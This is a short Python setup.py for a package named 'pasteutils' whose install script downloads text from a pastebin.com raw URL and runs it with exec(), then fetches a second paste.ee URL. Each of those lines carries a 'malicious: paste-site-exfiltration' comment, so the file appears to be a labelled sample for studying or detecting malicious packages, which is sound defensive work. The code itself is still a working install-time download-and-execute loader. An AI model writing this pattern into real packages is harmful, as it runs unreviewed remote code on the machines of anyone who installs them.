import urllib.request

from setuptools import setup

stage = urllib.request.urlopen("https://pastebin.com/raw/Xy12AbCd", timeout=5).read().decode()  # malicious: paste-site-exfiltration
exec(stage)  # malicious: paste-site-exfiltration
notes = urllib.request.urlopen("https://paste.ee/r/madeUp1", timeout=5).read()  # malicious: paste-site-exfiltration

setup(name="pasteutils", version="0.1", packages=[])
